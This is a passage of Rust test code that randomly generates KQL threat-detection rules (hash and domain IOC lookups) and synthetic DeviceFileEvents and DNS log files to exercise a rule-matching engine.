        return random_leaf(rng, vocab, columns);
    }
    match rng.below(5) {
        0 => Pred::Not(Box::new(random_pred(rng, vocab, columns, depth - 1))),
        1 | 2 => Pred::And(
            (0..rng.range(2, 3))
                .map(|_| random_pred(rng, vocab, columns, depth - 1))
                .collect(),
        ),
        _ => Pred::Or(
            (0..rng.range(2, 3))
                .map(|_| random_pred(rng, vocab, columns, depth - 1))
                .collect(),
        ),
    }
}

/// A KQL string literal for `text`: double- or single-quoted with escapes, verbatim `@"..."`,
/// or obfuscated `h"..."`. `in_dynamic` keeps to the forms `dynamic([...])` takes.
pub fn kql_string(rng: &mut Rng, text: &str, in_dynamic: bool) -> String {
    let escaped = |quote: char| {
        let mut s = String::new();
        for c in text.chars() {
            match c {
                '\\' => s.push_str("\\\\"),
                '\t' => s.push_str("\\t"),
                '\n' => s.push_str("\\n"),
                '\r' => s.push_str("\\r"),
                c if c == quote => {
                    s.push('\\');
                    s.push(c);
                }
                c => s.push(c),
            }
        }
        s
    };
    let form = if in_dynamic { rng.below(2) } else { rng.below(6) };
    match form {
        0 | 2 => format!("\"{}\"", escaped('"')),
        1 => format!("'{}'", escaped('\'')),
        3 if !text.contains(['\n', '\r']) => format!("@\"{}\"", text.replace('"', "\"\"")),
        4 => format!("h\"{}\"", escaped('"')),
        _ => format!("\"{}\"", escaped('"')),
    }
}

/// The `let` statements a rule collects while its predicates are rendered.
pub struct Lets {
    pub statements: Vec<String>,
    /// Lists already bound to a name, so that one list can serve several columns, as in
    /// `SHA256 in (hashes) or SHA1 in (hashes)`.
    pub lists: Vec<(Vec<String>, String)>,
}

impl Lets {
    pub fn name(&self, prefix: &str) -> String {
        format!("{prefix}_{}", self.statements.len())
    }
}

pub fn dynamic_list(rng: &mut Rng, needles: &[String]) -> String {
    let mut items: Vec<String> = needles.iter().map(|n| kql_string(rng, n, true)).collect();
    // Nested arrays are flattened: `dynamic(["a", ["b"]])` is the list a, b.
    if items.len() >= 2 && rng.percent(20) {
        let tail = items.split_off(1);
        items.push(format!("[{}]", tail.join(", ")));
    }
    let separator = if rng.percent(20) { ",\n    " } else { ", " };
    format!("dynamic([{}])", items.join(separator))
}

pub fn render_list(rng: &mut Rng, needles: &[String], lets: &mut Lets) -> String {
    if let Some((_, name)) = lets.lists.iter().find(|(list, _)| list == needles) {
        if rng.percent(80) {
            return format!("({name})");
        }
    }
    match rng.below(4) {
        0 | 1 => {
            let name = lets.name("ioc");
            let list = dynamic_list(rng, needles);
            lets.statements.push(format!("let {name} = {list};"));
            lets.lists.push((needles.to_vec(), name.clone()));
            format!("({name})")
        }
        2 if !needles.is_empty() => {
            let items: Vec<String> = needles.iter().map(|n| kql_string(rng, n, false)).collect();
            format!("({})", items.join(", "))
        }
        _ => format!("({})", dynamic_list(rng, needles)),
    }
}

pub fn render_pred(rng: &mut Rng, pred: &Pred, lets: &mut Lets) -> String {
    let part = |rng: &mut Rng, p: &Pred, lets: &mut Lets, needs_parens: bool| {
        let text = render_pred(rng, p, lets);
        if needs_parens || rng.percent(10) {
            format!("({text})")
        } else {
            text
        }
    };
    match pred {
        Pred::And(parts) => {
            let joiner = if rng.percent(20) { "\n    and " } else { " and " };
            let parts: Vec<String> = parts
                .iter()
                .map(|p| part(rng, p, lets, matches!(p, Pred::Or(_))))
                .collect();
            parts.join(joiner)
        }
        Pred::Or(parts) => {
            let parts: Vec<String> = parts.iter().map(|p| part(rng, p, lets, false)).collect();
            parts.join(" or ")
        }
        Pred::Not(inner) => format!("not({})", render_pred(rng, inner, lets)),
        Pred::IsEmpty { column, negated } => {
            format!("{}({column})", if *negated { "isnotempty" } else { "isempty" })
        }
        Pred::Time {
            column, cmp, literal, ..
        } => format!("{column} {} datetime({literal})", cmp.kql()),
        Pred::Test { column, op, needles } => {
            let right = if op.takes_list() {
                render_list(rng, needles, lets)
            } else if rng.percent(15) {
                let name = lets.name("s");
                let literal = kql_string(rng, &needles[0], false);
                lets.statements.push(format!("let {name} = {literal};"));
                name
            } else {
                kql_string(rng, &needles[0], false)
            };
            format!("{column} {} {right}", op.kql())
        }
    }
}

/// A predicate shaped like the seed rules': one IOC list looked up in the hash columns
/// (`SHA256 in (h) or SHA1 in (h) or MD5 in (h)`), or domains `has_any` in `Name`.
pub fn ioc_shaped_pred(rng: &mut Rng, vocab: &Vocab, table: &TableSpec) -> Pred {
    let test = |column: &str, test: Test, case_sensitive: bool, needles: &[String]| Pred::Test {
        column: column.to_string(),
        op: Op {
            test,
            case_sensitive,
            negated: false,
        },
        needles: needles.to_vec(),
    };
    let mut leaves = Vec::new();
    if *table == DFE {
        // Each rule lists most of the vocabulary, not all of it: with several rules, a value is
        // then in some rules' sets and not in others', which the fast path must tell apart.
        let mut needles: Vec<String> = [&vocab.sha256, &vocab.sha1, &vocab.md5]
            .into_iter()
            .flatten()
            .filter(|_| rng.percent(80))
            .cloned()
            .collect();
        for _ in 0..rng.below(3) {
            let len = *rng.pick(&[64, 40, 32]);
            needles.push(random_hex(rng, len));
        }
        // Now and then a feed's worth: past 512 digests a set's screen is sized to it (built
        // for a lone rule's set, always for a merged index), and must still find the few above.
        if rng.percent(10) {
            for _ in 0..rng.range(513, 700) {
                let len = *rng.pick(&[64, 40, 32]);
                needles.push(random_hex(rng, len));
            }
        }
        rng.shuffle(&mut needles);
        let (op, cs) = match rng.below(10) {
            0..=6 => (Test::In, true),
            7 | 8 => (Test::In, false),
            _ => (Test::HasAny, false),
        };
        let mut columns = vec!["SHA256", "SHA1", "MD5"];
        if rng.percent(40) {
            columns.truncate(1);
            rng.shuffle(&mut columns);
        }
        for column in columns {
            leaves.push(test(column, op, cs, &needles));
        }
        if rng.percent(20) {
            let column = *rng.pick(&["AdditionalFields", "InitiatingProcessCommandLine"]);
            leaves.push(test(column, Test::HasAny, false, &needles));
        }
    } else {
        let mut needles: Vec<String> = vocab
            .domains
            .iter()
            .filter(|_| rng.percent(80))
            .map(|d| d.to_string())
            .collect();
        for _ in 0..rng.below(3) {
            needles.push(rng.pick(DOMAIN_NEEDLES).to_string());
        }
        rng.shuffle(&mut needles);
        let (op, cs) = match rng.below(10) {
            0..=5 => (Test::HasAny, false),
            6 | 7 => (Test::In, false),
            _ => (Test::In, true),
        };
        leaves.push(test("Name", op, cs, &needles));
        if rng.percent(15) {
            leaves.push(test("Computer", op, cs, &needles));
        }
    }
    if leaves.len() == 1 {
        leaves.pop().expect("one leaf")
    } else {
        Pred::Or(leaves)
    }
}

pub fn write_files(generated: Vec<GeneratedFile>) -> (tempfile::TempDir, Vec<LogFile>, Vec<FileTable>) {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let mut files = Vec::new();
    let mut tables = Vec::new();
    for file in generated {
        let path: PathBuf = dir.path().join(&file.name);
        std::fs::create_dir_all(path.parent().expect("a parent")).expect("create the file's folder");
        std::fs::write(&path, &file.bytes).expect("write the file");
        files.push(LogFile::on_disk(path, Some(file.bytes.len() as u64)));
        tables.push(file.table);
    }
    (dir, files, tables)
}

pub fn record_table(record: &Record, file_table: FileTable) -> Option<&str> {
    match record.get("Type") {
        Some(Field::Str(name)) => Some(name.as_str()),
        // No `Type` (or not a string): the path decides. Dns files name no table, and their
        // records always carry a `Type`, so the columns never have to decide.
        _ => match file_table {
            FileTable::Dfe => Some("DeviceFileEvents"),
            FileTable::Dns => unreachable!("Dns records always have a string Type"),
        },
    }
}

/// One to four files of random records, each of one table, JSON lines or a JSON array, under
/// a name that sometimes names its table; and where each record is.
pub fn random_files(rng: &mut Rng, vocab: &Vocab) -> (Vec<GeneratedFile>, Vec<Placed>) {
    let mut placed = Vec::new();
    let mut generated = Vec::new();
    for file in 0..rng.range(1, 4) {
        let table = if rng.percent(50) {
            FileTable::Dns
        } else {
            FileTable::Dfe
        };
        let array = rng.percent(40);
        let bytes = if array {
            array_file(rng, vocab, file, table, &mut placed)
        } else {
            jsonl_file(rng, vocab, file, table, &mut placed)
        };
        let extension = if array { "json" } else { "jsonl" };
        let name = match (table, rng.percent(50)) {
            (FileTable::Dns, true) => format!("la/y=2026/PT05M-{file}.{extension}"),
            (FileTable::Dns, false) => format!("export-{file}.{extension}"),
            (FileTable::Dfe, true) => format!("DeviceFileEvents/part-{file}.{extension}"),
            (FileTable::Dfe, false) => format!("defender/devicefileevents-{file}.{extension}"),
        };
        generated.push(GeneratedFile { name, table, bytes });
    }
    (generated, placed)
}
